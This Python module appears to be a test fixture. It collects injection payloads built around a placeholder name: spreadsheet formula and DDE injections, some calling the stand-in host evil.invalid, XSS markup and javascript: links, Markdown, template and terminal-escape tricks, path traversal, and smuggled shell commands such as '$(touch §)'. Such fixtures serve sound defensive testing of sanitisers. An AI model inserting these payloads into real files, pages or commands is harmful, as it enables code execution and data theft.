"""Texts that try to be more than texts, each around a name, which `NAME` stands for.

What each tries: formulas and the ways to open one (OWASP, CSV Injection), links and elements in Markdown and HTML, the
ends of elements and comments, event attributes, template and format syntax, characters that steer a terminal (ECMA-48)
or turn the reading direction (Unicode Technical Report 36), a terminal library's markup, names of files and devices,
and the escapes that a spreadsheet has for characters (ECMA-376, 22.9.2.19).
"""

from __future__ import annotations

NAME = "§"
EVIL = "evil.invalid"
"""A host that cannot exist (RFC 2606)."""
PWN = "window.__pwned=1"
"""What a script would do, and a test would see."""

FORMULAS = (
    f'=HYPERLINK("http://{EVIL}","§")', "+1 §", "-2 §", "@SUM(1) §", "=1+1 §", "{=1+1} §", "\t=1+1 §", "\r=1+1 §",
    "\n=1+1 §", "\uff1d1+1 §", "|cmd §", "=cmd|' /C calc'!A0 §", '=DDE("cmd","/C calc","§")', "'=1+1 §", '"=1+1 §',
    f'=WEBSERVICE("http://{EVIL}/§")', '=IMAGE("http://evil.invalid/§")', "&L&A&F §",
)  # fmt: skip
MARKUP = (
    f"<script>{PWN};alert(1)</script>§", f'<img src=x onerror="{PWN};alert(1)">§', f"</script><script>{PWN}</script>§",
    "§</script", "]]> § <![CDATA[", "<!-- §", "--> §", f"</svg></title></style></textarea><svg onload={PWN}>§",
    f'" onload="{PWN}" § x="', f"' onmouseover='{PWN}' §", f"§ onclick={PWN}", f"<iframe src=//{EVIL}>§",
    f"<a href=javascript:{PWN}>§</a>", "<style>*{display:none}</style>§", f"<base href=//{EVIL}>§",
    f'<meta http-equiv=refresh content="0;url=//{EVIL}">§', "&lt;b&gt;§&#60;i&#62; &colon &#x202e;", "&#0; &#128; §",
    "§<b", "</td></tr></table>§", f'<form action="//{EVIL}"><input autofocus onfocus={PWN}>§', "\\3c /style> §",
    "*/ } body { display: none } /* §",
)  # fmt: skip
MARKDOWN = (
    f"](javascript:{PWN}) §", f"[§](javascript:{PWN})", "[§](data:text/html,<b>)", f"![§](http://{EVIL}/x.png)",
    f"[x]: http://{EVIL} '§'", f"<http://{EVIL}/§>", f"http://{EVIL}/§ www.{EVIL} me@{EVIL}", "`§` ``` §", "~~~ §",
    "§ | a || b |", "| a | b § |", "# §", "§ #", "1. §", "- §", "> §", "--- §", "=== §", "*§* __§__ ~~§~~", "§\\",
    "[^1]: §", "- [ ] §", ":--|--: §",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }} {% raw %} §", "${7*7} #{7*7} <%= 7*7 %> §", "{0.__class__} {total} {} §", "%s %(x)d %n §",
    "{{ ''.__class__.__mro__ }}§", "{# §", "§ {{",
)  # fmt: skip
STEERING = (
    "a\u2028b\u2029 §", "\u202e§\u202c", "\u2066§ \u2067x", "Ke\u200bs\u2060 §\ufeff", "\x01\x08\x0b\x1f §\x7f",
    "\x1b[31m§\x1b[0m", f"\x1b]8;;http://{EVIL}\x07§\x1b]8;;\x07", "\x1b]0;title\x07§", "\x9b31m§", "\x9d0;x\x9c§",
    "§\r\x1b[2K", "[bold red]§[/] [/weird]", f"[link=http://{EVIL}]§[/link]", "§\U000e0041\U000e007f", "e\u0301\u0316§",
)  # fmt: skip
PLACES = (
    "../../§", "..\\..\\§", "CON §", "/etc/passwd §", "C:\\Windows\\§", "§?*:<>", ".§", "§.", "§/../x", "-rf §",
    "_x000D_§ _x0041_", "§[1]!'A'", "x!A1 §", "$(touch §)", "`id` §", "§%00%0a",
)  # fmt: skip

PAYLOADS = (*FORMULAS, *MARKUP, *MARKDOWN, *TEMPLATES, *STEERING, *PLACES)

BAD_LINKS = (
    f"javascript:{PWN}", f"JaVaScRiPt:{PWN}", f" java\tscript:{PWN}", f"data:text/html,<script>{PWN}</script>",
    f"vbscript:{PWN}", f"//{EVIL}/x", f"file:///etc/passwd#{EVIL}", f"https://shop.example@{EVIL}/",
    f"https://user:word@{EVIL}/", f"http://{EVIL} onclick={PWN}", f"https:\\\\{EVIL}", f"https:{EVIL}", "http:///x",
    f"ftp://{EVIL}/", f"mailto:me@{EVIL}", f"\\\\{EVIL}\\share", f'https://{EVIL}"onclick="{PWN}', "https://[",
    f"https://{EVIL}/\u202egpj.exe", f"https://{EVIL}\\@shop.example/",
)  # fmt: skip
"""Addresses that may become no link: another scheme than the web's or none, a name in front, spaces, backslashes."""
GOOD_LINK = "https://shop.example/part(1)?a=1&b=2#top"


def dressed(name: str, turn: int) -> str:
    """A name inside the payload whose turn it is."""
    return PAYLOADS[turn % len(PAYLOADS)].replace(NAME, name)
